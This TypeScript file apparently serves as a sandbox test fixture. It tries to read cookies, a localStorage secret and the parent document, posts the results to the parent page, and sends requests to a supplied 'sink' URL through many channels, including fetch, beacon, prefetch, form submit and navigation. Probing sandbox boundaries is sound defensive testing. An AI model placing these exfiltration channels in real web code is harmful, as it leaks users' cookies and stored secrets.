// What must never run on the frame's own thread: everything that the frame can get is told to the page, and to a sink.

declare const tabgridWorkerText: string
void tabgridWorkerText

function read(attempt: () => unknown): string {
  try {
    return String(attempt())
  } catch (thrown) {
    return thrown instanceof Error ? thrown.name : 'refused'
  }
}

function add(name: string, properties: Readonly<Record<string, string>>): Element {
  const element = Object.assign(document.createElement(name), properties)
  document.documentElement.append(element)
  return element
}

addEventListener('message', async ({ data: { sink } }: MessageEvent<{ sink: string }>) => {
  const told = {
    storage: read(() => localStorage.getItem('secret')),
    cookie: read(() => document.cookie),
    parent: read(() => parent.document.title),
    window: read(() => open(`${sink}/window`)),
    fetch: await fetch(`${sink}/fetch`).then(
      () => 'sent',
      () => 'refused',
    ),
  }
  const image = new Image()
  image.src = `${sink}/image`
  for (const rel of ['stylesheet', 'prefetch', 'preload']) add('link', { rel, href: `${sink}/${rel}`, as: 'script' })
  add('script', { src: `${sink}/script` })
  add('iframe', { src: `${sink}/inner` })
  add('script', { type: 'speculationrules', textContent: `{"prefetch":[{"urls":["${sink}/speculation"]}]}` })
  const form = add('form', { method: 'get', action: `${sink}/form` })
  if (form instanceof HTMLFormElement) form.submit()
  read(() => navigator.sendBeacon(`${sink}/beacon`))
  parent.postMessage(told, '*')
  try {
    if (top !== null) top.location.href = `${sink}/top`
  } catch {} // the sandbox forbids it
  location.href = `${sink}/navigation?secret`
})
